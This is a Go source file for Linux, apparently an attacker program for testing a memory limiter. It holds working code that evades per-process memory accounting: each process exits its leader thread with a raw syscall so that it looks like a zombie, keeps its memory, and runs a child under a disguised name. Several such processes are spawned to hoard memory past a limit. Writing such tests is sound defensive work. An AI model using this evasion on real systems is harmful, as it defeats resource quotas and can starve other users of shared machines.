//go:build linux

package main

import (
	"fmt"
	"os"
	"os/exec"
	"runtime"
	"strconv"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func init() {
	if len(os.Args) > 2 && os.Args[1] == "attack" {
		runtime.LockOSThread() // an attack runs in its process's first thread
	}
}

// attackWithoutFirstThread ends the first thread of its process, which looks like a zombie then, and goes on in another,
// with a child. The arguments are the MiB that it holds and the seconds that it lives.
func attackWithoutFirstThread(args []string) {
	mib, _ := strconv.Atoi(args[0])
	seconds, _ := strconv.Atoi(args[1])
	ready := make(chan bool)
	go func() {
		b, err := unix.Mmap(-1, 0, mib<<20+1, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANON)
		if err != nil {
			fmt.Println(err)
			os.Exit(1)
		}
		for i := 0; i < len(b); i += 4096 {
			b[i] = 1
		}
		c := exec.Command("sleep", args[1])
		c.Args[0] = unseenChild
		c.Start()
		ready <- true
		time.Sleep(time.Duration(seconds) * time.Second)
		got("%d MiB for %d s", mib, seconds+int(b[0])-1)
		os.Exit(0)
	}()
	<-ready
	syscall.RawSyscall(unix.SYS_EXIT, 0, 0, 0) // of this thread alone
}

// unseenChild is how the child of attackWithoutFirstThread calls itself.
const unseenChild = "child-of-the-unseen"

// attackByHoarding takes more memory than one may, by processes without their first threads.
func attackByHoarding([]string) {
	var all []*exec.Cmd
	for range 3 {
		c := exec.Command("./attacker", "attack", "leaderless", "500", "15")
		c.Stdout, c.Stderr = os.Stdout, os.Stderr
		if err := c.Start(); err != nil {
			fmt.Println(err)
		}
		all = append(all, c)
	}
	for _, c := range all {
		c.Wait()
	}
	fmt.Println("tried")
}
